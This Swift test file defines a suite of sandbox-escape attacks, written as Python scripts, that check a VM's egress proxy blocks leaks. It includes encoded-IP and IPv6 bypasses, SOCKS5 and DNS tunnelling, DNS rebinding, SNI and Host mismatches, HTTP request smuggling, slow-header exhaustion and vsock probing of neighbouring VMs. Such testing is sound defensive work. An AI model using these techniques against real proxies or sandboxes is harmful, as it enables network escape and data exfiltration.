/// One way to get out that must not work: a program that runs in the VM.
struct Attack {
    let name: String
    /// Python, after `prelude`. Whatever it gets out of the world it prints; `hello from the world` is a leak too, unless
    /// the attack is on something else.
    let script: String
    /// Root of the VM, who may make raw sockets and dial vsock.
    var asRoot = false
    /// What must be in the output, besides nothing having leaked.
    var expected: String?
    /// The good server may answer: only the forbidden one must not be reached.
    var mayReachAllowed = false

    /// What all attacks use. `ask` sends bytes to the proxy and gives all that comes back.
    static let prelude = #"""
        import os, socket, ssl, struct, sys, time
        PLAIN, SECURE, RAW = map(int, os.environ['PORTS'].split())
        # What another VM waits on, and what it is called.
        THEIRS, NEIGHBOUR = 5555, int(os.environ.get('NEIGHBOUR', 4))
        def proxy(limit=8):
            s = socket.create_connection(('127.0.0.1', 3128), timeout=limit)
            return s
        def rest(s):
            got = b''
            try:
                while True:
                    part = s.recv(65536)
                    if not part: break
                    got += part
            except OSError as e: got += f'<{e}>'.encode()
            return got
        def ask(data, limit=8):
            s = proxy(limit)
            s.sendall(data if isinstance(data, bytes) else data.encode())
            return rest(s)
        def show(got): print((got if isinstance(got, bytes) else got.encode())[:3000].decode('latin1'))
        def connect(host, port):
            s = proxy()
            s.sendall(f'CONNECT {host}:{port} HTTP/1.1\r\nHost: {host}:{port}\r\n\r\n'.encode())
            head = b''
            while b'\r\n\r\n' not in head:
                part = s.recv(4096)
                if not part: break
                head += part
            return s, head
        def get(url, host=None):
            return ask(f'GET {url} HTTP/1.1\r\nHost: {host or url.split("/")[2]}\r\nConnection: close\r\n\r\n')
        def name(question, kind=1):
            s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(6)
            labels = b''.join(bytes([len(l)]) + l.encode() for l in question.split('.'))
            s.sendto(struct.pack('>HHHHHH', 7, 0x100, 1, 0, 0, 0) + labels + b'\0' + struct.pack('>HH', kind, 1),
                     ('127.0.0.1', 53))
            return s.recv(4096)

        """#

    /// The issue's list, and what else came to mind.
    static let all: [Attack] = [
        Attack(
            name: "raw IPv4 through the proxy",
            script: "show(get(f'http://127.0.0.3:{PLAIN}/')); show(connect('127.0.0.3', PLAIN)[1])"),
        Attack(
            name: "raw IPv4 of the allowed server, by address",
            script: "show(get(f'http://127.0.0.2:{PLAIN}/')); show(connect('127.0.0.2', SECURE)[1])"),
        Attack(
            name: "raw IPv6",
            script: """
                for h in ('[::1]', '[::ffff:127.0.0.3]', '[::ffff:7f00:3]', '[64:ff9b::7f00:3]', '[fe80::1%25lo]'):
                    show(get(f'http://{h}:{PLAIN}/')); show(connect(h, PLAIN)[1])
                """),
        Attack(
            name: "addresses in decimal, hex, octal and short",
            script: """
                for h in ('2130706435', '0x7f000003', '0177.0.0.3', '127.3', '0x7f.3', '017700000003', '127.0.0.3.',
                          '127.0.0.003', '①②⑦.0.0.3'):
                    show(get(f'http://{h}:{PLAIN}/')); show(connect(h, PLAIN)[1])
                """),
        Attack(
            name: "SOCKS5 to an address and to a forbidden name",
            script: """
                for a in (b'\\x01' + socket.inet_aton('127.0.0.3'), b'\\x03\\x11forbidden.example', b'\\x04' + b'\\0'*15 + b'\\x01'):
                    s = proxy(); s.sendall(b'\\x05\\x01\\0'); s.recv(2)
                    s.sendall(b'\\x05\\x01\\0' + a + struct.pack('>H', PLAIN)); s.settimeout(4)
                    try: show(s.recv(64).hex())
                    except OSError as e: show(str(e))
                    try: s.sendall(b'GET / HTTP/1.0\\r\\n\\r\\n'); show(s.recv(100))
                    except OSError as e: show(str(e))
                """),
        Attack(
            name: "SOCKS5 bind and UDP associate",
            script: """
                for command in (2, 3):
                    s = proxy(); s.sendall(b'\\x05\\x01\\0'); s.recv(2)
                    s.sendall(bytes([5, command, 0, 1]) + socket.inet_aton('127.0.0.3') + struct.pack('>H', RAW))
                    s.settimeout(4)
                    try: answer = s.recv(64)
                    except OSError: answer = b''
                    print('granted' if answer[1:2] == b'\\0' else 'refused')
                """, expected: "refused\nrefused"),
        Attack(
            name: "a DNS tunnel by names",
            script: """
                for i in range(30):
                    try: show(name(f'{os.urandom(20).hex()}.forbidden.example')[:4].hex())
                    except OSError as e: show(str(e))
                for i in range(5): show(name(f'{os.urandom(20).hex()}.good.example')[:4].hex())
                """),
        Attack(
            name: "a DNS tunnel by TXT, NULL, CNAME, MX and ANY",
            script: """
                for kind in (16, 10, 5, 15, 255, 252):
                    try: show(name('good.example', kind).hex())
                    except OSError as e: show(str(e))
                """),
        Attack(
            name: "an answer that changes between check and connection",
            script: "for i in range(6): show(get(f'http://rebind.example:{PLAIN}/'))", mayReachAllowed: true),
        Attack(
            name: "private, loopback, link-local and metadata addresses behind allowed names",
            script: """
                for h in ('loop.example', 'private.example', 'link.example', 'metadata.example', 'zero.example'):
                    show(get(f'http://{h}:{PLAIN}/')); show(connect(h, PLAIN)[1])
                """),
        Attack(
            name: "a redirect to a forbidden host",
            script: """
                import urllib.request
                try: show(urllib.request.urlopen(f'http://good.example:{PLAIN}/redirect', timeout=8).read())
                except Exception as e: show(str(e))
                """),
        Attack(
            name: "CONNECT to a forbidden port",
            script: "show(connect('good.example', RAW)[1]); show(connect('good.example', 22)[1])"),
        Attack(
            name: "SNI that is not the host",
            script: """
                for sni in ('forbidden.example', 'evil.example', 'api.example', None):
                    s, head = connect('good.example', SECURE)
                    context = ssl._create_unverified_context(); context.check_hostname = False
                    try:
                        t = context.wrap_socket(s, server_hostname=sni)
                        t.sendall(b'GET /sni HTTP/1.1\\r\\nHost: forbidden.example\\r\\nConnection: close\\r\\n\\r\\n')
                        show(rest(t))
                    except OSError as e: show(str(e))
                """),
        Attack(
            name: "Host that is not the host of the URL",
            script: """
                show(get(f'http://good.example:{PLAIN}/host', 'forbidden.example'))
                show(ask(f'GET http://good.example:{PLAIN}/two HTTP/1.1\\r\\nHost: good.example:{PLAIN}\\r\\n'
                         f'Host: forbidden.example\\r\\nConnection: close\\r\\n\\r\\n'))
                show(ask(f'GET /origin HTTP/1.1\\r\\nHost: forbidden.example:{PLAIN}\\r\\nConnection: close\\r\\n\\r\\n'))
                """),
        Attack(
            name: "smuggling by two lengths",
            script: """
                inner = f'GET http://forbidden.example:{PLAIN}/smuggled HTTP/1.1\\r\\nHost: forbidden.example:{PLAIN}\\r\\n\\r\\n'
                for fields in ('Content-Length: 0\\r\\nContent-Length: 5', 'Content-Length: 5\\r\\nTransfer-Encoding: chunked',
                               'Content-Length: +5', 'Content-Length: 0x5', 'Content-Length : 5',
                               'Transfer-Encoding: chunked, identity', 'Transfer-Encoding: xchunked',
                               'Transfer-Encoding:\\x0bchunked'):
                    show(ask(f'POST http://good.example:{PLAIN}/smuggle HTTP/1.1\\r\\nHost: good.example:{PLAIN}\\r\\n'
                             f'{fields}\\r\\n\\r\\n0\\r\\n\\r\\n{inner}', 4))
                """, mayReachAllowed: true),
        Attack(
            name: "chunked tricks",
            script: """
                inner = f'GET http://forbidden.example:{PLAIN}/chunk HTTP/1.1\\r\\nHost: forbidden.example:{PLAIN}\\r\\n\\r\\n'
                for chunk in ('5;a=b\\nhello\\r\\n0\\r\\n\\r\\n', 'fffffffffffffffff\\r\\nx', '-1\\r\\n\\r\\n', '5 \\r\\nhello\\r\\n0\\r\\n\\r\\n',
                              '0\\r\\nTransfer-Encoding: x\\r\\n\\r\\n', '5\\r\\nhelloXX0\\r\\n\\r\\n', '0x5\\r\\nhello\\r\\n0\\r\\n\\r\\n'):
                    show(ask(f'POST http://good.example:{PLAIN}/chunks HTTP/1.1\\r\\nHost: good.example:{PLAIN}\\r\\n'
                             f'Transfer-Encoding: chunked\\r\\n\\r\\n{chunk}{inner}', 4))
                """, mayReachAllowed: true),
        Attack(
            name: "an upgraded connection",
            script: """
                show(ask(f'GET http://good.example:{PLAIN}/up HTTP/1.1\\r\\nHost: good.example:{PLAIN}\\r\\n'
                         f'Connection: Upgrade\\r\\nUpgrade: websocket\\r\\n\\r\\n'
                         f'GET http://forbidden.example:{PLAIN}/ HTTP/1.1\\r\\nHost: forbidden.example:{PLAIN}\\r\\n\\r\\n', 4))
                """, mayReachAllowed: true),
        Attack(
            name: "line ends and blanks in requests",
            script: """
                for line in ('GET http://good.example:{0}/\\rHost: forbidden.example HTTP/1.1', 'GET  http://forbidden.example:{0}/ HTTP/1.1',
                             'GET http://good.example:{0}@forbidden.example:{0}/ HTTP/1.1', 'GET http://forbidden.example:{0}#good.example/ HTTP/1.1',
                             'GET http://forbidden.example:{0}\\\\@good.example/ HTTP/1.1', 'GET http://good.example%2eforbidden.example:{0}/ HTTP/1.1',
                             'GET http://good.example\\x00.forbidden.example:{0}/ HTTP/1.1', 'GET //forbidden.example:{0}/ HTTP/1.1'):
                    show(ask(line.format(PLAIN) + f'\\r\\nHost: good.example:{PLAIN}\\r\\nConnection: close\\r\\n\\r\\n', 4))
                """, mayReachAllowed: true),
        Attack(
            name: "very slow and endless headers",
            script: """
                s = proxy(25); s.sendall(f'GET http://good.example:{PLAIN}/slow HTTP/1.1\\r\\n'.encode()); began = time.time()
                try:
                    for i in range(60): s.sendall(b'X: y\\r\\n'); time.sleep(0.5)
                    print('still open')
                except OSError: print('closed')
                s = proxy(8)
                try:
                    for i in range(5000): s.sendall(b'A: ' + b'b' * 1000 + b'\\r\\n')
                    print('took all')
                except OSError: print('closed')
                """, expected: "closed"),
        Attack(
            name: "UDP and raw TCP past the proxy",
            script: """
                for address in ('127.0.0.3', '10.0.2.2', '192.0.2.1', '8.8.8.8'):
                    u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
                    try: u.sendto(b'leak', (address, RAW)); print('sent', address)
                    except OSError as e: show(str(e))
                    t = socket.socket(); t.settimeout(2)
                    try: t.connect((address, PLAIN)); print('reached', address)
                    except OSError as e: show(str(e))
                """),
        Attack(
            name: "ICMP and raw sockets as root",
            script: """
                try:
                    r = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP)
                    r.sendto(b'\\x08\\0\\xf7\\xff\\0\\0\\0\\0', ('192.0.2.1', 0)); print('sent')
                except OSError as e: print('no way:', e)
                try: socket.socket(socket.AF_PACKET, socket.SOCK_RAW); print('packets', os.listdir('/sys/class/net'))
                except OSError as e: show(str(e))
                """, asRoot: true, expected: "no way"),
        Attack(
            name: "other vsock ports and context identifiers",
            script: """
                opened = []
                for cid in (0, 1, 2, 3, 4, 5, 100, 1000):
                    for port in (1, 22, 80, 1023, 1027, 2375, 3128, 5000, 8080, PLAIN, RAW):
                        s = socket.socket(socket.AF_VSOCK); s.settimeout(1)
                        try: s.connect((cid, port)); opened.append((cid, port))
                        except (OSError, OverflowError): pass
                        s.close()
                print('opened', opened)
                """, asRoot: true, expected: "opened []"),
        Attack(
            name: "another VM: its context identifiers, its ports and its proxy",
            script: """
                import fcntl
                own = fcntl.ioctl(open('/dev/vsock'), socket.IOCTL_VM_SOCKETS_GET_LOCAL_CID, bytes(4))
                own = struct.unpack('I', own)[0]; opened = []
                # A VM's own number leads to its own agent.
                for cid in {NEIGHBOUR, NEIGHBOUR + 1, own + 1, 2**31} - {own}:
                    for port in (1024, 1025, 1026, THEIRS):
                        s = socket.socket(socket.AF_VSOCK); s.settimeout(0.5)
                        try: s.connect((cid, port)); opened.append((cid, port)); s.sendall(b'attack')
                        except (OSError, OverflowError): pass
                        s.close()
                print('opened', opened)
                def host(port, words):
                    s = socket.socket(socket.AF_VSOCK); s.settimeout(8); s.connect((2, port)); s.sendall(words); return rest(s)
                ask_it = f'GET http://theirs.example:{PLAIN}/taken HTTP/1.1\\r\\nHost: theirs.example:{PLAIN}\\r\\nConnection: close\\r\\n\\r\\n'
                show(host(1025, ask_it.encode()))
                for marked in ('X-Forwarded-For: 4', 'Proxy-Authorization: Basic b3RoZXI6', 'Forwarded: for=other', 'X-AIU-VM: other'):
                    show(host(1025, ask_it.replace('Connection', marked + '\\r\\nConnection').encode()))
                s = socket.socket(socket.AF_VSOCK); s.settimeout(8)
                # A source port that the other VM's connections have.
                s.bind((socket.VMADDR_CID_ANY, 700)); s.connect((2, 1025)); s.sendall(ask_it.encode()); show(rest(s))
                """, asRoot: true, expected: "opened []"),
        Attack(
            name: "vsock by an ordinary user",
            script: """
                try: socket.socket(socket.AF_VSOCK); print('made')
                except OSError: print('refused')
                """, expected: "refused"),
        Attack(
            name: "the host's own services by name",
            script: """
                for h in ('localhost', 'wiki.local', 'host.local', 'aiud', 'broadcasthost', 'localhost.localdomain'):
                    show(get(f'http://{h}:{PLAIN}/')); show(connect(h, PLAIN)[1])
                """),
    ]
}
